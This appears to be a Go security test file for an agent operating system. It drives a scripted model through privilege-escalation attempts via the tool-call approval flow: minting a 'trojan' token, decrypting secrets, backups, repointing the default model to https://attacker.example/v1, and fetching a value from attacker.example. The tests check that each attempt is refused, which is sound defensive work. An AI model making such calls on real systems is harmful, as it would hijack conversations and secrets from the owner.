package attack

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"kernos/daemon"
	"kernos/kernel"
	"kernos/message"
)

// An asker is a language model that calls what it is told to, and is done then.
type asker struct {
	w       *world
	session string
	calls   chan string   // the next call, as JSON
	ended   chan struct{} // closed when the turn has ended
	seen    int           // the last message that was looked at
}

// asker begins a session with such a model, in which every call asks. Calls that were allowed may reach settings and the network.
func (w *world) asker(create func(data string) outcome) *asker {
	w.t.Helper()
	p := &asker{w: w, calls: make(chan string, 1)}
	serving := w.ownersLink()
	if o := serving.ask("Syscall.Register", newID(), `{"name":"Puppet.Generate","kind":"command","description":"A model.","inputSchema":{"type":"object"},"outputSchema":{"type":"object"},"handler":"connection"}`); o.code != 0 {
		w.t.Fatal(o)
	}
	go func() {
		for m := range serving.in {
			if m.Type != "Puppet.Generate" || m.Kind == message.KindEvent {
				continue
			}
			reply := `{"text":"done"}`
			select {
			case call := <-p.calls:
				reply = `{"finish":"calls","messages":[{"type":"tool-calls","calls":[` + call + `]}]}`
			default:
			}
			serving.answer(message.KindReply, m, reply)
		}
	}()
	w.must("Memory.Set", `{"key":"models/puppet","value":{"dialect":"syscall","type":"Puppet.Generate"}}`, nil)
	o := create(`{"model":"puppet","tools":["*"],"policy":[{"match":"*","reach":"settings","decide":"allow"},{"match":"*","reach":"network","decide":"allow"},{"match":"*","decide":"ask"}]}`)
	var made struct{ Session string }
	if err := json.Unmarshal(o.data, &made); o.code != 0 || err != nil {
		w.t.Fatal(o, err)
	}
	p.session = made.Session
	return p
}

// asks makes the model call a syscall, and returns the call, which waits for a decision.
func (p *asker) asks(what message.Type, args string) (call string) {
	p.w.t.Helper()
	p.calls <- fmt.Sprintf(`{"id":"c","name":%q,"args":%s}`, what, args)
	send := message.Message{Kind: message.KindCommand, Type: "Session.Send", Data: fmt.Appendf(nil, `{"session":%q,"text":"go","wait":true}`, p.session)}
	asked, ended := make(chan string, 1), make(chan struct{})
	p.ended = ended
	go func() {
		defer close(ended)
		answer, err := p.w.d.Call(p.w.t.Context(), send, func(event message.Message) {
			var e struct{ Call string }
			if event.Type == "Session.Asked" && json.Unmarshal(event.Data, &e) == nil {
				asked <- e.Call
			}
		})
		if err != nil || answer.Err != nil {
			p.w.t.Error(err, answer.Err)
		}
	}()
	select {
	case call = <-asked:
	case <-ended:
		p.w.t.Fatalf("%s %s doesn't wait for a decision: %s", what, args, p.over())
	}
	return call
}

// over waits until the turn has ended, and returns the last result.
func (p *asker) over() (result string) {
	p.w.t.Helper()
	<-p.ended
	var list struct {
		Messages []struct {
			Seq     int
			Type    string
			Results []json.RawMessage
		}
	}
	p.w.must("Session.Messages", fmt.Sprintf(`{"session":%q,"after":%d}`, p.session, p.seen), &list)
	for _, m := range list.Messages {
		p.seen = m.Seq
		if m.Type == "tool-results" {
			result = string(m.Results[0])
		}
	}
	return result
}

func (p *asker) decision(call, more string) string {
	return fmt.Sprintf(`{"session":%q,"call":%q,%s}`, p.session, call, more)
}

// TestADecisionGivesNoMoreThanItsDeciderHas: a token of the preset console decides about calls of the owner's session,
// and gets nothing out of it that it couldn't have called itself.
func TestADecisionGivesNoMoreThanItsDeciderHas(t *testing.T) {
	files := t.TempDir()
	w := openWith(t, &daemon.Options{Files: daemon.Files{Mounts: []string{"/=" + files}}})
	console := w.token("browser", `"preset":"console"`)
	p := w.asker(func(data string) outcome { return w.owner("Session.Create", data) })
	w.must("Memory.Set", `{"key":"models/default","value":"puppet"}`, nil)

	for _, c := range []struct {
		what message.Type
		args string
	}{
		{"Token.Create", `{"name":"trojan","preset":"console"}`}, {"Crypto.Open", `{"ciphertext":"pwenc:v1:x"}`}, {"Kernel.Backup", `{}`},
		{"Syscall.Call", `{"type":"Token.Create","data":{"name":"trojan","preset":"console"}}`},
	} {
		call := p.asks(c.what, c.args)
		if o := w.call(console, "Session.Decide", p.decision(call, `"decision":"allow"`)); o.code != 403 || !strings.Contains(o.text, "couldn't make") {
			t.Errorf("%s: %v", c.what, o)
		}
		if o := w.call(console, "Session.Decide", p.decision(call, `"decision":"deny"`)); o.code != 0 {
			t.Errorf("denying %s: %v", c.what, o)
		}
		p.over()
	}
	// Calls that the token may make, of which the owner's do more.
	for _, c := range []struct {
		what message.Type
		args string
	}{
		{"Memory.Set", `{"key":"models/default","value":"other"}`}, {"Memory.Delete", `{"key":"models/default"}`},
		{"VFS.Write", `{"uri":"os://memory/models/default","content":"other"}`}, {"VFS.Write", `{"uri":"os://syscalls/trojan.ts","content":"x"}`},
	} {
		call := p.asks(c.what, c.args)
		for _, remember := range []string{"session", "always"} {
			if o := w.call(console, "Session.Decide", p.decision(call, `"decision":"allow","remember":"`+remember+`"`)); o.code != 403 || !strings.Contains(o.text, "one by one") {
				t.Errorf("%s is remembered: %v", c.what, o)
			}
		}
		if o := w.call(console, "Session.Decide", p.decision(call, `"decision":"allow"`)); o.code != 0 {
			t.Errorf("%s: %v", c.what, o)
		}
		if got := p.over(); !strings.Contains(got, "403") {
			t.Errorf("%s has the result %s", c.what, got)
		}
	}
	if got := w.owner("Memory.Get", `{"key":"models/default"}`); got.String() != `"puppet"` {
		t.Errorf("models/default is %v", got)
	}
	if _, err := os.Lstat(filepath.Join(files, "syscalls")); err == nil {
		t.Error("the file was written")
	}
	if list := w.owner("Token.List", `{}`); strings.Contains(string(list.data), "trojan") {
		t.Errorf("a token was made: %v", list)
	}

	// What both may do is done, and the owner decides about everything.
	if o := w.call(console, "Session.Decide", p.decision(p.asks("Memory.Set", `{"key":"notes/1","value":"milk"}`), `"decision":"allow"`)); o.code != 0 {
		t.Error(o)
	}
	if got := p.over(); !strings.Contains(got, `"success":true`) {
		t.Errorf("got %s", got)
	}
	w.must("Session.Decide", p.decision(p.asks("Memory.Set", `{"key":"models/default","value":"demo"}`), `"decision":"allow","remember":"session"`), nil)
	if got := p.over(); strings.Contains(got, "error") {
		t.Errorf("got %s", got)
	}
}

// TestModelsAreTheOwners: no token changes where conversations are sent.
func TestModelsAreTheOwners(t *testing.T) {
	w := open(t)
	w.must("Memory.Set", `{"key":"models/default","value":"demo"}`, nil)
	for preset, secret := range map[string]string{"console": w.token("browser", `"preset":"console"`), "agent": w.token("agent", `"preset":"agent","allow":["*"]`)} {
		for _, c := range []struct {
			what message.Type
			data string
		}{
			{"Memory.Set", `{"key":"models/default","value":{"dialect":"openai-chat","baseUrl":"https://attacker.example/v1","model":"x"}}`},
			{"Memory.Set", `{"key":"/models//another","value":"demo"}`},
			{"Memory.Increment", `{"key":"models/default"}`},
			{"Memory.Delete", `{"key":"models/default"}`},
			{"VFS.Write", `{"uri":"os://memory/models/default","content":"\"other\""}`},
			{"VFS.Delete", `{"uri":"os://memory/models/default"}`},
			{"VFS.Delete", `{"uri":"os://memory/models","recursive":true}`},
			{"Model.Add", `{"name":"another","baseUrl":"https://attacker.example/v1","model":"x"}`},
			{"Model.Default", `{"name":"demo"}`},
			{"Model.Remove", `{"name":"default"}`},
		} {
			if o := w.call(secret, c.what, c.data); o.code != 403 {
				t.Errorf("%s: %s %s: %v", preset, c.what, c.data, o)
			}
		}
	}
	var chat struct{ Session string }
	w.must("Session.Create", `{"system":"-"}`, &chat)
	for _, c := range [][2]string{
		{"Memory.Set", `{"key":"models/default","value":"another"}`}, {"Memory.Set", `{"key":"models/new","value":"demo"}`},
		{"Memory.Delete", `{"key":"models/default"}`}, {"VFS.Write", `{"uri":"os://memory/models/default","content":"\"other\""}`},
		{"Model.Add", `{"name":"new","baseUrl":"https://attacker.example/v1","model":"x"}`}, {"Model.Default", `{"name":"demo"}`}, {"Model.Remove", `{"name":"default"}`},
	} {
		if o := w.by(kernel.From(nil, "").In(chat.Session), message.Type(c[0]), "", c[1]); o.code != 403 || !strings.Contains(o.text, "needs an approval") {
			t.Errorf("a session of the owner, unasked: %s %s: %v", c[0], c[1], o)
		}
	}
	if got := w.owner("Memory.Get", `{"key":"models/default"}`); got.String() != `"demo"` {
		t.Errorf("models/default is %v", got)
	}
}

// TestADecisionAboutATokensSession: a call of another token's session has the rights of that token and of the one that has
// allowed it, whichever parameter leads somewhere.
func TestADecisionAboutATokensSession(t *testing.T) {
	w := open(t)
	vip := w.token("vip", `"preset":"agent","allow":["Session.Decide"]`)
	p := w.asker(func(data string) outcome { return w.call(vip, "Session.Create", data) })
	console := w.token("browser", `"preset":"console","deny":["Http.*"]`)
	call := p.asks("Memory.Set", `{"key":"notes/1","valueRef":{"scheme":"https","authority":"attacker.example","path":"/x"}}`)
	if o := w.call(console, "Session.Decide", p.decision(call, `"decision":"allow","remember":"session"`)); o.code != 403 || !strings.Contains(o.text, "one by one") {
		t.Errorf("it is remembered: %v", o)
	}
	if o := w.call(console, "Session.Decide", p.decision(call, `"decision":"allow"`)); o.code != 0 {
		t.Fatal(o)
	}
	if got := p.over(); !strings.Contains(got, "403") || !strings.Contains(got, "Http.Fetch") {
		t.Errorf("the call reaches the network, which the token that has allowed it doesn't: %s", got)
	}
	own := p.asks("Memory.Set", `{"key":"notes/1","value":"milk"}`)
	if o := w.call(vip, "Session.Decide", p.decision(own, `"decision":"allow"`)); o.code != 0 {
		t.Fatal(o)
	}
	if got := p.over(); !strings.Contains(got, `"success":true`) {
		t.Errorf("the session's own token has allowed it: %s", got)
	}
}
